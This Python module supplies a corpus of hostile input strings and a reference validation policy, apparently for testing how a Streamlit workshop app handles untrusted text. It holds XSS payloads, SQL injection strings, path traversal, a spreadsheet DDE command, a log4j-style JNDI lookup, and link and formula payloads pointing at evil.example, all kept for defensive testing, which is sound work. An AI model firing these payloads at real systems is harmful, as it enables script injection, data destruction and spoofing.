"""A corpus of hostile strings (data, not tests), and what the app must do with each.

Every entry is something a person could type or paste into a field of the app, or put in a
file it imports, with a note of what it probes: markup of every kind Streamlit, browsers,
plotly or spreadsheets would act on, text that changes direction or hides, scripts written
right to left, emoji sequences, combining marks, strings at the fields' limits and one over,
quotes for SQL, formulas for spreadsheets, path-like and URL-like names, blank and control
characters, and lone surrogates, which only a JSON escape can bring in.

`verdict(text, field)` says what the models' one text policy (workbook/models.py) means for
a string in a kind of field, written out here on its own from the policy's rules, so that a
test can check the models against it: accepted (and stored as what), or refused (and the
plain problem the person is told). tests/test_hostile_input.py runs the corpus through the
models, the store and every page.
"""

from __future__ import annotations

import json
import unicodedata
from dataclasses import dataclass
from enum import StrEnum

from workbook.models import (
    MAX_NAME_CHARS,
    MAX_NOTE_CHARS,
    MAX_REFLECTION_CHARS,
    MAX_TITLE_CHARS,
)

# A host that must never be asked for anything: no user text may become a link or image.
EVIL_HOST = "evil.example"


@dataclass(frozen=True)
class Hostile:
    """One hostile string. `json`: for strings that can only come in through a JSON escape
    (a lone surrogate): the JSON text as it arrives; `text` is then what it decodes to."""

    text: str
    probes: str
    family: str
    json: str | None = None


def _entry(text: str, probes: str, family: str) -> Hostile:
    return Hostile(text, probes, family)


def _json(escaped: str, probes: str) -> Hostile:
    source = f'"{escaped}"'
    return Hostile(json.loads(source), probes, "surrogate", json=source)


_MARKDOWN = [
    (f"![x](http://{EVIL_HOST}/pixel.png)", "image link: would load a remote image"),
    (f"[click me](http://{EVIL_HOST}/phish)", "inline link"),
    (f"<http://{EVIL_HOST}/auto>", "autolink in angle brackets"),
    (f"http://{EVIL_HOST}/bare", "bare URL: GFM makes it a link"),
    (f"www.{EVIL_HOST}", "www. literal: GFM makes it a link"),
    (f"someone@{EVIL_HOST}", "e-mail literal: GFM makes it a mailto link"),
    ("# Heading one", "ATX heading"),
    ("## Table 2", "second-level heading"),
    ("**bold** and _italic_", "emphasis"),
    ("~~struck out~~", "GFM strikethrough"),
    ("`inline code`", "code span"),
    ("```\nfenced code\n```", "code fence (several lines)"),
    ("| a | b |\n|---|---|\n| 1 | 2 |", "GFM table (several lines)"),
    ("> quoted", "block quote"),
    ("- a list item", "bullet list"),
    ("1. numbered", "ordered list"),
    ("---", "thematic break (or a heading underline)"),
    (f"[ref]: http://{EVIL_HOST}/def", "link reference definition (vanishes when rendered)"),
    ("[x](javascript:alert(1))", "javascript: link"),
    ("\\*not emphasis\\* \\", "backslash escapes, a trailing backslash"),
    ("***", "emphasis markers alone"),
    ("Table [1]", "brackets that look like a link's text"),
    ("a_b_c __init__", "underscores inside words"),
    ("[![img](http://evil.example/i.png)](http://evil.example/l)", "image inside a link"),
    (
        f"![t](http://{EVIL_HOST}/t.png) <b>Spring</b> & :smile: $x$ day",
        "image, HTML, an ampersand, a shortcode and LaTeX in one title",
    ),
]

_HTML = [
    ("<script>alert(1)</script>", "script tag"),
    ("<img src=x onerror=alert(1)>", "image with an error handler"),
    (f'<iframe src="http://{EVIL_HOST}/frame"></iframe>', "iframe"),
    ("<b>bold</b> <i>italic</i>", "formatting tags"),
    (f'<a href="http://{EVIL_HOST}/a">a link</a>', "anchor tag"),
    ("<style>body{display:none}</style>", "style tag"),
    ("<svg onload=alert(1)>", "SVG with a load handler"),
    ("&lt;b&gt;already escaped&lt;/b&gt;", "entities: must show as typed, not decoded"),
    ("&amp; &#60;script&#62; &#x3C;", "numeric and named entities"),
    ("&nbsp;&copy;&zwj;", "entities for invisible and special characters"),
    ('"><script>alert(1)</script>', "breaking out of an attribute"),
    ("' onmouseover='alert(1)", "an attribute injected with single quotes"),
    ("<!-- hidden comment -->", "HTML comment"),
    ("</div></div><h1>Broken layout</h1>", "closing the page's own tags"),
    ("<br>line<br/>break", "line-break tags"),
    ("<<>>&&", "bare angle brackets and ampersands"),
    (f'<object data="http://{EVIL_HOST}/o"></object>', "object tag"),
    (f'<link rel="stylesheet" href="http://{EVIL_HOST}/s.css">', "stylesheet link"),
]

_LATEX = [
    ("$x^2$", "inline LaTeX"),
    ("$$\\sum_{i=1}^n i$$", "display LaTeX"),
    ("\\(a+b\\) and \\[c\\]", "LaTeX brackets"),
    ("Costs $5 and $10", "dollar amounts that pair into LaTeX"),
    ("\\begin{equation}x\\end{equation}", "LaTeX environment"),
]

_SHORTCODES = [
    (":smile:", "emoji shortcode"),
    (":material/home:", "Streamlit material icon"),
    (":red[danger]", "Streamlit coloured text"),
    (":blue-background[highlight]", "Streamlit coloured background"),
    (":rainbow[pride]", "Streamlit rainbow text"),
    (":streamlit: :fire: :+1:", "several shortcodes"),
    (":material/warning: Table 3", "an icon in front of a name"),
]

_INVISIBLE = [
    ("\u202eevil.exe\u202c", "right-to-left override (U+202E) reversing what follows"),
    ("abc\u200bdef", "zero-width space (U+200B)"),
    ("\u2066isolated\u2069 text", "left-to-right isolate (U+2066) and pop (U+2069)"),
    ("a\u200db", "zero-width joiner alone between letters"),
    ("\ufeffstarts with a BOM", "byte order mark (U+FEFF) at the start"),
    ("word\u2060joiner", "word joiner (U+2060)"),
    ("\u061c\u200f\u200e marks", "Arabic letter mark and RLM/LRM"),
    ("soft\u00adhyphen", "soft hyphen (U+00AD)"),
    ("\u200b", "a zero-width space alone: looks empty, is not"),
    ("Table\u2028two", "line separator (U+2028)"),
    ("\u034f\u180e", "combining grapheme joiner and Mongolian vowel separator"),
]

# Direction controls never closed: shown next to the app's own words, each would turn them
# (a join code read backwards) unless the name is isolated (workbook/bidi.py).
_BIDI = [
    ("\u202eRTL", "right-to-left override (U+202E) never closed"),
    ("\u202dLTR override", "left-to-right override (U+202D) never closed"),
    ("\u202bembedding", "right-to-left embedding (U+202B) never closed"),
    ("\u2066LRI open", "left-to-right isolate (U+2066) without its pop"),
    ("\u2067RLI open", "right-to-left isolate (U+2067) without its pop"),
    ("\u2068FSI open", "first strong isolate (U+2068) without its pop"),
    ("pop\u2069\u202eRTL", "a pop (U+2069) closing nothing, then an override"),
    ("\u202e\u2067\u202eمرحبا", "an override, an isolate and an override, none closed"),
    (
        "<img src=x onerror=alert(1)> **G** =1+1 \u202eRTL",
        "markup, Markdown, a formula and an override never closed (the walk-through's group)",
    ),
]

_SCRIPTS = [
    ("مجموعة العمل", "Arabic"),
    ("שלום עליכם", "Hebrew"),
    ("Table 3 שולחן", "left-to-right then right-to-left"),
    ("٣ طاولة", "Arabic with an Arabic-Indic digit"),
    ("کارگروه شماره ۲", "Persian with Persian digits"),
    ("नमस्ते दुनिया", "Devanagari with conjuncts"),
    ("สวัสดีชาวโลก", "Thai (no spaces between words)"),
    ("你好世界，我们的小组", "Chinese with a full-width comma"),
    ("모임 하나", "Korean"),
    ("Ελληνικά Ρaypal", "Greek, with a Greek capital rho passing for a P"),
    ("Ｔａｂｌｅ ＜script＞", "full-width Latin letters and brackets"),
    ("İstanbul ß ﬁ", "dotted capital I, sharp s and a ligature"),
]

_EMOJI = [
    ("Tenants 👩🏽‍🦱 union", "emoji with a skin tone and a ZWJ"),
    ("👨‍👩‍👧‍👦", "family: four people joined by ZWJs"),
    ("🏳️‍🌈 🏳️‍⚧️", "flags made of ZWJ sequences"),
    ("🇺🇦🇵🇸🇬🇧", "regional-indicator flags"),
    ("🏴󠁧󠁢󠁳󠁣󠁴󠁿", "a tag sequence flag (Scotland)"),
    ("❤️ 1️⃣ ©️", "variation selectors and a keycap"),
    ("🫶🏿🧑🏻‍🤝‍🧑🏾", "recent emoji with tones"),
]

_COMBINING = [
    ("z̸̢̛̗a̵̧̬l̷̰g̶̹o̴̟", "stacked combining marks (zalgo)"),
    ("Cafe\u0301", "a decomposed e-acute: stored composed (NFC)"),
    ("\u212b ngstrom", "the angstrom sign: NFC makes it A-ring"),
    ("\u1100\u1161\u11a8", "Korean jamo that NFC composes"),
    ("e\u0301\u0301\u0301", "one letter with the same mark three times"),
    ("\u0301 starts with a mark", "a combining mark with nothing to combine with"),
]

_SPREADSHEET = [
    (f'=HYPERLINK("http://{EVIL_HOST}/x","click")', "spreadsheet link formula"),
    ("=1+1", "formula"),
    ("+1", "a leading plus: a formula in some spreadsheets"),
    ("-1", "a leading minus"),
    ("@SUM(A1:A2)", "a leading at sign"),
    ("=cmd|' /C calc'!A0", "DDE command"),
    ("'=not a formula", "a leading apostrophe before ="),
    ("0012345", "leading zeros a spreadsheet would drop"),
    ("1e5", "reads as a number"),
    ("TRUE", "reads as a boolean"),
    ("NaN", "reads as not-a-number"),
    ("null", "reads as null in JSON and some tools"),
    ("None", "Python's null"),
    ("2024-01-02", "reads as a date"),
]

_SQL = [
    ("'; DROP TABLE workshops; --", "SQL injection with a quote"),
    ('" OR 1=1 --', "SQL injection with a double quote"),
    ("Robert'); DROP TABLE groups;--", "the classic one"),
    ("100% _done_ %s", "LIKE wildcards and a format placeholder"),
    ("\\x00 \\n \\u0000", "escape sequences typed as text"),
]

_PATHS = [
    ("../../etc/passwd", "path traversal"),
    ("C:\\Windows\\System32", "a Windows path"),
    ("..\\..\\boot.ini", "Windows path traversal"),
    ("/dev/null", "an absolute Unix path"),
    ("CON", "a reserved Windows file name"),
    (".hidden", "a dot file"),
    ("name.csv", "a file name with an extension"),
    ('a/b\\c:d*e?f"g<h>i|j', "every character a file name may not hold"),
]

_URLS = [
    (f"https://{EVIL_HOST}/?q=<script>", "a URL with markup in its query"),
    ("javascript:alert(1)", "a javascript: URL"),
    ("data:text/html,<script>alert(1)</script>", "a data: URL"),
    (f"mailto:x@{EVIL_HOST}", "a mailto: URL"),
    (f"file:///etc/passwd and //{EVIL_HOST}/x", "file: and protocol-relative URLs"),
]

_TEMPLATES = [
    ("{0} {name} {{7*7}}", "format and template placeholders"),
    ("${jndi:ldap://evil.example/a}", "a log4j-style lookup"),
    ("<%= 7*7 %> #{7*7}", "server template markers"),
    ("%(scope)s %d", "printf placeholders (the drafts script uses %(scope)s)"),
]

_WHITESPACE = [
    ("   ", "spaces only: empty"),
    ("\t\n", "a tab and a line break only: empty"),
    ("\u3000", "an ideographic space only: empty"),
    ("\u00a0\u00a0", "no-break spaces only: empty"),
    ("  Table 1  ", "spaces around a name: stripped"),
    ("a  b   c", "runs of spaces inside"),
    ("line one\nline two", "a line break"),
    ("line one\r\nline two", "a Windows line break"),
    ("a\tb", "a tab inside"),
    ("\n\nparagraph\n\n\nanother\n", "blank lines around and between"),
]

_CONTROL = [
    ("nul\x00byte", "a NUL character"),
    ("bell\x07", "a bell"),
    ("\x1b[31mred\x1b[0m", "ANSI escape codes"),
    ("del\x7f", "DEL (U+007F)"),
    ("next\x85line", "a C1 control (NEL, U+0085)"),
    ("vertical\x0btab", "a vertical tab"),
    ("form\x0cfeed", "a form feed"),
    ("not\ufffecharacter", "U+FFFE, a non-character"),
    ("end\uffff", "U+FFFF: breaks an XLSX file"),
    ("plane\U0010ffff", "the last code point, a non-character"),
    ("\ufdd0 reserved", "U+FDD0, a non-character"),
    ("replacement \ufffd", "U+FFFD, a real character: accepted"),
]


def _long() -> list[Hostile]:
    out = []
    for field, limit in (
        ("name", MAX_NAME_CHARS),
        ("title", MAX_TITLE_CHARS),
        ("note", MAX_NOTE_CHARS),
        ("answer", MAX_REFLECTION_CHARS),
    ):
        out.append(_entry("a" * limit, f"exactly a {field}'s limit ({limit})", "long"))
        out.append(_entry("a" * (limit + 1), f"one over a {field}'s limit", "long"))
    out += [
        _entry("🌱" * MAX_NAME_CHARS, "a name's limit in characters outside the BMP", "long"),
        _entry("  " + "b" * MAX_NAME_CHARS + "  ", "the limit once the spaces go", "long"),
        _entry(
            "   " + "c" * (MAX_NAME_CHARS + 1) + "   ",
            "one over once the spaces go: the message counts what is kept",
            "long",
        ),
        _entry(
            "e\u0301" * MAX_NAME_CHARS, "twice the limit decomposed, the limit composed", "long"
        ),
        _entry(
            "\u0958" * MAX_NAME_CHARS,
            "a name's limit as typed, twice it composed (NFC splits U+0958): the box lets it "
            "in and the model refuses it",
            "long",
        ),
        _entry("w" * 300, "one word of 300 letters: no place to wrap", "long"),
        _entry(("word " * 1200).strip(), "about 6,000 characters of words", "long"),
    ]
    return out


_SURROGATES = [
    _json("\\ud800", "a lone high surrogate, escaped in JSON"),
    _json("tail \\udfff", "a lone low surrogate after text"),
    _json("\\udc00\\ud800", "two surrogates in the wrong order"),
    _json("\\ud83d", "half of an emoji"),
    _json("\\ud83d\\ude00", "a valid surrogate pair: an emoji, accepted"),
]


def _build() -> tuple[Hostile, ...]:
    families = {
        "markdown": _MARKDOWN,
        "html": _HTML,
        "latex": _LATEX,
        "shortcode": _SHORTCODES,
        "invisible": _INVISIBLE,
        "bidi": _BIDI,
        "script": _SCRIPTS,
        "emoji": _EMOJI,
        "combining": _COMBINING,
        "spreadsheet": _SPREADSHEET,
        "sql": _SQL,
        "path": _PATHS,
        "url": _URLS,
        "template": _TEMPLATES,
        "whitespace": _WHITESPACE,
        "control": _CONTROL,
    }
    entries = [
        _entry(text, probes, family) for family, items in families.items() for text, probes in items
    ]
    return (*entries, *_long(), *_SURROGATES)


CORPUS: tuple[Hostile, ...] = _build()


# --- the text policy, written out ------------------------------------------------------------


class Field(StrEnum):
    """Kinds of field, by the policy that applies to them."""

    name = "name"  # one line, required: group, stakeholder, snapshot
    optional_name = "optional_name"  # one line, may be empty: your name, region, who
    title = "title"  # one line, required, longer: workshop title, cause
    answer = "answer"  # several lines, required: a reflection
    commitment = "commitment"  # several lines, required: what we will do
    note = "note"  # several lines, may be empty: a stakeholder's note


@dataclass(frozen=True)
class _Rule:
    limit: int
    required: bool
    one_line: bool


RULES: dict[Field, _Rule] = {
    Field.name: _Rule(MAX_NAME_CHARS, True, True),
    Field.optional_name: _Rule(MAX_NAME_CHARS, False, True),
    Field.title: _Rule(MAX_TITLE_CHARS, True, True),
    Field.answer: _Rule(MAX_REFLECTION_CHARS, True, False),
    Field.commitment: _Rule(MAX_NOTE_CHARS, True, False),
    Field.note: _Rule(MAX_NOTE_CHARS, False, False),
}


@dataclass(frozen=True)
class Verdict:
    """Accepted: `stored` is what is kept and shown. Refused: `problem` is what the person
    reads after the field's name (e.g. "is too long: 81 characters, the limit is 80")."""

    stored: str | None = None
    problem: str | None = None

    @property
    def accepted(self) -> bool:
        return self.problem is None

    def sentence(self, label: str) -> str:
        assert self.problem is not None
        return f"{label} {self.problem}."


def _refused_character(value: str) -> str | None:
    for character in value:
        code = ord(character)
        if character in "\t\n\r":
            continue
        if code < 0x20 or 0x7F <= code <= 0x9F:
            return f"contains an invisible control character (U+{code:04X}); please retype it"
        if 0xD800 <= code <= 0xDFFF or 0xFDD0 <= code <= 0xFDEF or code & 0xFFFE == 0xFFFE:
            return f"contains U+{code:04X}, which is not a character; please retype it"
    return None


def verdict(text: str, field: Field) -> Verdict:
    """What the policy does with `text` typed into a field of this kind: the same word typed
    on two keyboards is one (NFC), spaces around go, then in this order: empty, too long,
    a character that is not text (control characters other than tab and line breaks,
    surrogates, non-characters), and a line break or tab where one line is asked for."""
    rule = RULES[field]
    value = unicodedata.normalize("NFC", text).strip()
    if not value:
        return Verdict(problem="cannot be empty") if rule.required else Verdict(stored="")
    if len(value) > rule.limit:
        return Verdict(
            problem=f"is too long: {len(value):,} characters, the limit is {rule.limit:,}"
        )
    problem = _refused_character(value)
    if problem:
        return Verdict(problem=problem)
    if rule.one_line and any(c in value for c in "\t\n\r"):
        return Verdict(problem="must fit on one line")
    return Verdict(stored=value)


def accepted(field: Field, *, at_most: int | None = None) -> list[Hostile]:
    """The corpus entries a field of this kind accepts (and whose stored form is not empty),
    optionally only those whose stored form is at most `at_most` characters."""
    out = []
    for entry in CORPUS:
        shown = verdict(entry.text, field)
        if shown.accepted and shown.stored and (at_most is None or len(shown.stored) <= at_most):
            out.append(entry)
    return out


def refused(field: Field) -> list[Hostile]:
    return [entry for entry in CORPUS if not verdict(entry.text, field).accepted]


# --- direction: what the Unicode Bidirectional Algorithm leaves open ------------------------------

_EMBEDS = frozenset("\u202a\u202b\u202d\u202e")  # LRE, RLE, LRO, RLO
_ISOLATES = frozenset("\u2066\u2067\u2068")  # LRI, RLI, FSI
_PARAGRAPH_ENDS = frozenset("\n\r\u2029\x1c\x1d\x1e\x85")


def open_direction(text: str, index: int) -> list[str]:
    """The embeddings, overrides and isolates still open at `text[index]`, by the Unicode
    Bidirectional Algorithm's rules X1-X8 (without the depth limit): a pop (U+2069) closes
    the innermost open isolate and everything opened inside it, and nothing when no isolate
    is open; PDF (U+202C) closes an embedding or override only when one is innermost; a
    paragraph end closes all. Empty: the character there reads in the paragraph's direction,
    untouched by what came before it. Written here on its own, not from workbook/bidi.py."""
    stack: list[str] = []
    for character in text[:index]:
        if character in _EMBEDS or character in _ISOLATES:
            stack.append(character)
        elif character == "\u202c":
            if stack and stack[-1] in _EMBEDS:
                stack.pop()
        elif character == "\u2069":
            if any(c in _ISOLATES for c in stack):
                while stack.pop() not in _ISOLATES:
                    pass
        elif character in _PARAGRAPH_ENDS:
            stack.clear()
    return stack


def bidi_entries() -> list[Hostile]:
    """The corpus entries holding a direction control."""
    controls = _EMBEDS | _ISOLATES | {"\u202c", "\u2069"}
    return [entry for entry in CORPUS if controls & set(entry.text)]


def by_text(text: str) -> Hostile:
    return next(entry for entry in CORPUS if entry.text == text)
